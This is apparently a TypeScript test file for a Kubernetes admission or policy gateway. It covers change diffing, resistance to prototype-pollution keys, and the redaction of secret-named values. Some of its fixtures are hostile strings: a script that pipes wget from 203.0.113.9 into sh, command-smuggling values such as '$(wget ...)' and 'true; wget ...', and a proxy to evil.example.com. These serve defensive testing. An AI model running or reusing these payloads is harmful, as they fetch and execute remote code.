import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ObservedEffect } from '@sentinel/crds';
import { applyChanges, changeDigest, changesBetween, valueAt } from './change.ts';
import { describeEffect } from './describe.ts';
import { relativeTo } from './overlay.ts';
import { request } from './request.fixture.ts';
import { cutValues, shortenForRules } from './shorten.ts';

describe('A second write to one object', () => {
  // What the rehearsal records must be what the gateway sees in the real run, where the first write has happened.
  const rows: Record<string, { live: object; first: object; second: object; real: object; merges: boolean }> = {
    'adds to a map that the first one made': {
      live: { metadata: {} },
      first: { metadata: { labels: { a: '1' } } },
      second: { metadata: { labels: { b: '2' } } },
      real: { metadata: { labels: { a: '1', b: '2' } } },
      merges: true,
    },
    'changes a value in a map that the first one made': {
      live: {},
      first: { data: { a: { x: 1, y: 1 } } },
      second: { data: { a: { x: 2 } } },
      real: { data: { a: { x: 2, y: 1 } } },
      merges: true,
    },
    'replaces what the first one made, where it does not merge': {
      live: {},
      first: { data: { a: 1 } },
      second: { data: { b: 2 } },
      real: { data: { b: 2 } },
      merges: false,
    },
    'repeats the first one and adds to it': {
      live: { a: 1 },
      first: { a: 2 },
      second: { a: 2, b: 1 },
      real: { a: 2, b: 1 },
      merges: true,
    },
  };
  for (const [name, { live, first, second, real, merges }] of Object.entries(rows)) {
    it(name, () => {
      const rehearsed = applyChanges(live, changesBetween(live, first));
      const recorded = relativeTo(rehearsed, changesBetween(live, second), merges);
      assert.equal(changeDigest(recorded), changeDigest(changesBetween(rehearsed, real)));
      assert.deepEqual(applyChanges(rehearsed, recorded), real);
    });
  }

  it('is the whole change if nothing was rehearsed, or what was is gone', () => {
    const changes = changesBetween({ a: 1 }, { a: 2 });
    for (const rehearsed of [undefined, null]) assert.deepEqual(relativeTo(rehearsed, changes, true), changes);
  });
});

describe('A name that every object inherits', () => {
  for (const key of ['constructor', 'toString', 'hasOwnProperty', '__proto__']) {
    const withKey = (value: unknown): unknown => JSON.parse(`{"data":{${JSON.stringify(key)}:${JSON.stringify(value)}}}`);
    it(`is a key like any other: ${key}`, () => {
      const changes = changesBetween({ data: {} }, withKey({ polluted: 'yes' }));
      assert.equal(changes[0]?.path, `/data/${key}`);
      assert.equal(JSON.stringify(applyChanges({ data: {} }, changes)), JSON.stringify(withKey({ polluted: 'yes' })));
      assert.equal(valueAt({ data: {} }, `/data/${key}`), undefined);
      const deeper = changesBetween(withKey({}), withKey({ polluted: 'yes' }));
      assert.equal(JSON.stringify(applyChanges(withKey({}), deeper)), JSON.stringify(withKey({ polluted: 'yes' })));
      assert.equal(
        JSON.stringify(applyChanges({}, [{ path: `/${key}/polluted`, after: 'yes' }])),
        `{"${key}":{"polluted":"yes"}}`,
      );
      assert.equal(({} as Record<string, unknown>).polluted, undefined);
    });
  }
});

describe('An effect as it is shown', () => {
  // What leaves the memory of the gateway.
  const asSent = (effect: ObservedEffect): ObservedEffect => JSON.parse(JSON.stringify(effect));
  const show = (changes: { path: string; before: unknown; after: unknown }[]) =>
    asSent(describeEffect(request(), { name: 'web', uid: 'u', changes }));

  it('hides values under names that reveal, and covers them by the digest', () => {
    for (const path of [
      '/data/password',
      '/spec/apiKey',
      '/x/api-key',
      '/a/TOKEN',
      '/spec/accessKey',
      '/data/PASSPHRASE',
      '/data/DB_PASS',
      '/spec/db-pwd',
      '/x/pass',
    ]) {
      const shown = show([{ path, before: undefined, after: 'hunter2' }]);
      assert.deepEqual(shown.change, [{ path, after: '"<redacted>"', redacted: true }]);
      assert.notEqual(shown.changeDigest, show([{ path, before: undefined, after: 'hunter3' }]).changeDigest);
    }
  });

  it('hides no reference, and nothing that is executed, whatever it is called', () => {
    const shell = '#!/bin/sh\nwget -qO- http://203.0.113.9/x | sh\n';
    const texts: [string, unknown][] = [
      ['/spec/template/spec/volumes/0/secret/secretName', 'cluster-admin-kubeconfig'],
      ['/spec/template/spec/containers/0/env/0/valueFrom/secretKeyRef/name', 'prod-root'],
      ['/spec/secretStoreRef/name', 'prod'],
      ['/spec/tls/0/secretName', 'web-tls'],
      ['/spec/credentialName', 'web-tls'],
      ['/spec/imagePullSecrets/0/name', 'pull'],
      ['/spec/passwordSecret/key', 'other'],
      ['/spec/tokenExpirationSeconds', 3600],
      ['/spec/automountServiceAccountToken', true],
      ['/data/token-check.sh', shell],
      ['/data/secret.conf', 'listen 80\nproxy_pass http://evil.example.com'],
      ['/data/API_TOKEN', '$(wget -qO- http://203.0.113.9/x)'],
      ['/data/PASSWORD', 'true; wget -qO- http://203.0.113.9/x'],
    ];
    for (const [path, after] of texts)
      assert.deepEqual(show([{ path, before: undefined, after }]).change, [{ path, after: JSON.stringify(after) }], path);
    const env = [
      { name: 'TOKEN_HOST', value: 'evil.example.com' },
      { name: 'API_TOKEN', value: 'hunter22' },
    ];
    const { change } = show([{ path: '/spec/env', before: undefined, after: env }]);
    assert.match(change?.[0]?.after ?? '', /evil\.example\.com/);
    assert.doesNotMatch(change?.[0]?.after ?? '', /hunter22/);
  });

  it('hides the old value where only the new one is something else than a secret', () => {
    const change = { path: '/data/TOKEN', before: 'hunter22', after: 'two\nlines' };
    assert.deepEqual(show([change]).change, [
      { path: '/data/TOKEN', before: '"<redacted>"', after: JSON.stringify('two\nlines'), redacted: true },
    ]);
  });

  it('shows an object that is created field by field, without what its names say is secret', () => {
    const env = [
      { name: 'DB_PASSWORD', value: 'hunter2' },
      { name: 'MODE', value: 'fast' },
      { name: 'TOKEN', valueFrom: { secretKeyRef: { name: 'db', key: 'x' } } },
    ];
    const spec = { replicas: 1, template: { containers: [{ name: 'web', env }], text: 'x'.repeat(300) } };
    const { change } = show([
      { path: '', before: undefined, after: { data: { apiKey: 'hunter2', big: 'y'.repeat(3000) }, spec } },
    ]);
    const text = JSON.stringify(change);
    assert.doesNotMatch(text, /hunter2/);
    assert.match(text, /secretKeyRef/);
    assert.match(text, /fast/);
    assert.deepEqual(
      change?.map(({ path }) => path),
      ['/data/apiKey', '/data/big', '/spec/replicas', '/spec/template/containers', '/spec/template/text'],
    );
    assert.equal(change?.[1]?.after?.length, 3002, 'values are as long as they are');
  });

  it('hides the value of an environment variable by the name beside it', () => {
    const path = '/spec/containers/0/env/0/value';
    const changes = [{ path, before: 'hunter1', after: 'hunter2' }];
    const result = { spec: { containers: [{ env: [{ name: 'DB_PASSWORD', value: 'hunter2' }] }] } };
    const { change } = asSent(describeEffect(request(), { name: 'web', uid: 'u', changes, result }));
    assert.deepEqual(change, [{ path, before: '"<redacted>"', after: '"<redacted>"', redacted: true }]);
  });

  it('is looked at by rules as far as they can, and they are told how much they do not see', () => {
    const many = shortenForRules(
      show(Array.from({ length: 1200 }, (_, index) => ({ path: `/a/${index}`, before: 1, after: 2 }))),
    );
    assert.deepEqual([many.change?.length, many.hiddenChanges], [1000, 200]);
    const long = shortenForRules(show([{ path: '/a', before: 'x'.repeat(20_000), after: 'y' }]));
    assert.deepEqual([long.change?.[0]?.cut, long.hiddenChanges], [true, 1]);
    assert.equal(shortenForRules(show([{ path: '/a', before: 1, after: 2 }])).hiddenChanges, undefined);
  });

  it('cuts long values without leaving half of a character, which no plan could hold', () => {
    for (const shift of ['', 'x']) {
      const shown = cutValues(
        show([{ path: `/${shift}${'😀'.repeat(600)}`, before: undefined, after: `${shift}${'😀'.repeat(2000)}` }]),
      );
      const { path = '', after = '', cut } = shown.change?.[0] ?? {};
      assert.ok(path.isWellFormed() && after.isWellFormed() && after.length <= 2048 && after.endsWith('…'));
      assert.deepEqual([cut, shown.hiddenChanges], [true, 1]);
    }
  });

  it('is not reversible when it deletes', () => {
    const { reversible, change, notes } = describeEffect(request({ verb: 'delete' }), { name: 'web', uid: 'u', changes: [] });
    assert.deepEqual([reversible, change, notes?.length], [false, [], 2]);
  });
});
